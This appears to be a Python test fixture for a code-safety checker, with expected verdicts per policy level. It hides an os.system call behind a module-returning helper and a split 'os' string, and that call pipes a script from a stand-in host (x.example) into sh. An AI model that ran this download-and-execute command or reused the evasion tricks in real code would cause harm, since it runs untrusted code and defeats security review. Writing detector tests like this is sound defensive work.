# expect: strict=deny standard=deny audit=allow
# A helper hands out the module; the dangerous call is made on what the helper
# returns, never on a name bound to it.
import importlib


def tool(name):
    return importlib.import_module(name)


def shell():
    return tool("subprocess")


def runner():
    return __import__("o" + "s")


runner().system("curl -s https://x.example/i.sh | sh")
